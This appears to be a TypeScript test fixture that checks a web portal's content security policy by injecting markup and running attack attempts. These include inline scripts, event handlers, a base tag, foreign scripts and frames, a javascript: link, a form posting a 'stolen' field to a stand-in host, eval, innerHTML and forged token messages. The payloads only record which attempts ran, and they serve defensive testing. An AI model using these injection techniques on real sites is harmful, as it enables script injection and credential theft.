// Attacks by someone who can inject content into a page. Each attack that runs adds its name to `window.ran`.

const elsewhere = 'https://elsewhere.example'
const run = (name: string) => `(window.ran = window.ran || []).push('${name}')`

/** Markup that the served page contains before any portal code runs. Only the content security policy can block it. */
export const injectedText = `
  <base href="${elsewhere}/">
  <script>${run('inline script')}</script>
  <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run('handler')}" onerror="${run('handler')}">
  <script src="${elsewhere}/foreign.js"></script>
  <iframe src="${elsewhere}/frame"></iframe>
  <object data="${elsewhere}/object"></object>
  <p id="styled" style="position: fixed">styled</p>
  <a id="link" href="javascript:${run('javascript link')}">link</a>
  <form id="form" action="${elsewhere}/form" method="post"><input name="stolen" value="1"></form>`

/**
 * Returns the directives that block all of these attacks. With Trusted Types, `require-trusted-types-for` blocks eval
 * before `script-src` can.
 */
export const blockedBy = (hasTrustedTypes: boolean) => [
  'base-uri',
  'script-src-elem',
  'script-src-attr',
  'frame-src',
  'object-src',
  'style-src-attr',
  'form-action',
  hasTrustedTypes ? 'require-trusted-types-for' : 'script-src',
]

/**
 * Returns the expected outcome of `attack`. Without Trusted Types, markup can be assigned, but the policy still blocks
 * its handlers.
 */
export const harmless = (hasTrustedTypes: boolean) => ({
  hasTrustedTypes,
  ran: hasTrustedTypes ? [] : ['innerHTML'],
  base: 'own',
  position: 'static',
})

/**
 * Runs all attacks in the page and returns their outcome. Must be self-contained, because it is sent to the page as
 * source.
 */
export async function attack() {
  const ran: string[] = []
  const attempt = (name: string, act: () => unknown) => {
    try {
      if (act() !== 'refused') ran.push(name)
    } catch {
      // The browser blocked the attack.
    }
  }
  attempt('link', () => {
    document.querySelector<HTMLElement>('#link')?.click()
    return 'refused'
  })
  attempt('form', () => {
    document.querySelector<HTMLFormElement>('#form')?.submit()
    return 'refused'
  })
  // Waits until the driver's own call has ended, because the browser lets the driver use eval.
  await new Promise((resolve) => setTimeout(resolve))
  attempt('eval', () => Reflect.get(window, 'eval').call(window, '1 + 1'))
  attempt('new Function', () => Reflect.construct(Function, ['return 1']))
  const place = document.createElement('div')
  const markup = '<img src="data:,x" onerror="(window.ran = window.ran || []).push(1)">'
  attempt('innerHTML', () => {
    place.innerHTML = markup
    return place.childElementCount === 0 ? 'refused' : 'made'
  })
  const script = document.createElement('script')
  attempt('script text', () => {
    script.text = 'window.ran = ["script text"]'
    document.body.append(script)
    return 'ran' in window ? 'made' : 'refused'
  })
  for (const message of [
    { type: 'sign-out' },
    { access_token: 'stolen', refresh_token: 'stolen' },
    '{"type":"exchange","url":"https://elsewhere.example"}',
    'javascript:1',
  ])
    window.postMessage(message, '*')
  // Messages arrive in order, so this last message follows all others.
  const heard = new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 'last' && resolve(undefined))
  })
  window.postMessage('last', '*')
  await heard
  const styled = document.querySelector('#styled')
  return {
    hasTrustedTypes: 'trustedTypes' in window,
    ran: [...ran, ...[Reflect.get(window, 'ran') ?? []].flat()],
    base: new URL(document.baseURI).origin === location.origin ? 'own' : document.baseURI,
    position: styled ? getComputedStyle(styled).position : 'missing',
    path: location.pathname,
  }
}
